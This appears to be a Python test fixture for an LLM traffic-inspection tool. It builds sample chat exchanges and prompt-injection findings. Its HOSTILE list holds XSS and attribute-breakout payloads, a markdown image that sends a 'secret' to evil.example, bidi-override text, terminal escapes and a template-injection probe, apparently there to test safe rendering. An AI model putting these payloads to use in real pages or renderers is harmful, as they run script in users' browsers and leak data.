"""Exchanges whose texts try to be more than texts."""

from __future__ import annotations

from llmsec_tap.model import Exchange, Finding, Location, Message, Part, Request, Response, Taxonomy

START = 1_790_000_000_000_000_000
HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "</div></main><svg onload=alert(1)>",
    "[click](javascript:alert(1)) ![x](https://evil.example/?q=secret)",
    "\u202egnp.exe\u202c \u200b\u2066hidden\u2069",
    "\x1b]0;title\x07\x1b[2J\x9b31m",
    '" onmouseover="alert(1)" x="',
    "{{ 7 * 7 }}{% raw %}",
)


def finding(part: str, start: int, end: int, severity: str = "high") -> Finding:
    return Finding(
        finding_id="f1", rule_id="injection.override", rule_version="1", category="prompt_injection", type="override", severity=severity,
        confidence=0.9, location=Location(part=part, start=start, end=end), preview="<b>…</b>", fingerprint="abc", taxonomy=Taxonomy(), explanation="It <i>overrides</i>.",
    )  # type: ignore[arg-type]  # fmt: skip


def exchange(number: int, text: str = "hi", answer: str = "hello") -> Exchange:
    return Exchange(
        exchange_id=f"{number:032x}", client="10.0.0.1:1", server="10.0.0.2:2", started_ns=START + number * 1_000_000_000, ended_ns=START + number * 1_000_000_000 + 5_000_000,
        provider="openai", api="openai.chat", operation="chat", method="POST", path="/v1/chat/completions", http_version="1.1", status=200 if number % 10 else 500,
        request_model=f"model-{number % 3}", input_text=text, output_text=answer, tenant=text[:40], risk_score=number % 100,
        request=Request(messages=[Message(role="user", parts=[Part(type="text", content=text)])]),
        response=Response(messages=[Message(role="assistant", parts=[Part(type="text", content=answer)])]),
        findings=[finding("request.messages[0].parts[0]", 0, 2)] if number % 20 == 1 else [],
    )  # fmt: skip
